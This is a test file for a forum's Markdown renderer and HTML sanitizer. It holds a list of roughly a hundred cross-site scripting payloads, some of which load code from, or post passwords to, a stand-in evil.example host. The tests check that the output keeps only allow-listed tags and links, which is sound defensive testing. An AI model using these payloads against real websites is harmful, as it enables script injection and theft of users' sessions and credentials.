import { describe, expect, it } from 'vitest';
import { createRenderer } from './renderer.ts';
import { createSanitizer } from './sanitize.ts';

const render = createRenderer('https://forum.example');
const sanitize = createSanitizer('https://forum.example');

/** After the filter-evasion lists of OWASP and DOMPurify: as HTML, and as Markdown that could become it. */
const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="//evil.example"></script>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="1em">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://forum.example/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://x" onclick="alert(1)">x</a>',
  '<a href="https://x" target="_blank" ping="//evil.example">x</a>',
  '<a id="location" name="cookie">x</a>',
  '<form action="//evil.example"><input name=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td background="//evil.example">x</td></tr></table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<img src="https://evil.example/pixel.gif">',
  '<p class="modal-backdrop" id="app" slot="x" is="x">x</p>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](java&Tab;script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](https://x "onmouseover=alert(1)")',
  '[x](https://x" onmouseover="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '![x" onerror="alert(1)](https://evil.example/x.png)',
  '![<img src=x onerror=alert(1)>](https://evil.example)',
  '<javascript:alert(1)>',
  '<https://x.example/"onmouseover="alert(1)>',
  'https://x.example/"><script>alert(1)</script>',
  'www.x.example"onmouseover=alert(1)//',
  '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '# <img src=x onerror=alert(1)>',
  '|<script>alert(1)</script>|\n|:-:|\n|<img src=x onerror=alert(1)>|',
  '> <script>alert(1)</script>',
  '- <svg/onload=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '**<b onclick=alert(1)>x**</b>',
  '[<script>alert(1)</script>](https://x)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '<a href="https://x"><a href="javascript:alert(1)">x</a>',
  '\u202Ehttps://forum.example\u202C [x](https://x)',
];

const attributes = String.raw`(?: (?:href|rel|class|start|tabindex)="[^"<>]*")*`;
const allowedTag = new RegExp(
  String.raw`^</?(?:h[456]|p|br|hr|em|strong|s|a|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td)${attributes} ?/?>$`,
);
const classes = ['align-left', 'align-center', 'align-right'];
const goodAddress = /^(?:https?:\/\/[^/\\]|mailto:|\/(?![/\\])|#)/;

/** Everything in the HTML that is not plainly harmless. Every < must begin one of our tags. */
const dangers = (html: string): string[] => {
  const tags = html.match(/<[^>]*>?/g) ?? [];
  const values = (name: string) =>
    tags.flatMap((tag) => [...tag.matchAll(new RegExp(` ${name}="([^"]*)"`, 'g'))].map(([, value = '']) => value));
  return [
    ...tags.filter((tag) => !allowedTag.test(tag)),
    ...values('href').filter((href) => !goodAddress.test(href)),
    ...values('class').filter((name) => !classes.includes(name)),
  ];
};

describe('the wall against scripts', () => {
  it('is tried with enough', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(60);
    expect(new Set(payloads).size).toBe(payloads.length);
  });

  it('knows danger when it sees it', () => {
    expect(dangers('<img src=x onerror=alert(1)>')).toHaveLength(1);
    expect(dangers('<a href="javascript:alert(1)">x</a><a href="//evil">x</a><p class="x">')).toHaveLength(3);
    expect(dangers('<p onclick="x">')).toHaveLength(1);
    expect(dangers('<p')).toHaveLength(1);
  });

  it.each(payloads)('renders %j harmless', (payload) => {
    expect(dangers(render(payload))).toEqual([]);
    expect(dangers(render(`Zdanie ${payload} dalej\n\n> ${payload}`))).toEqual([]);
  });

  it.each(payloads)('lets nothing through the second wall alone: %j', (payload) => {
    expect(dangers(sanitize(payload))).toEqual([]);
    // What is left stays the same when it is taken in once more: nothing changes its meaning on the way.
    expect(sanitize(sanitize(payload))).toBe(sanitize(payload));
  });
});
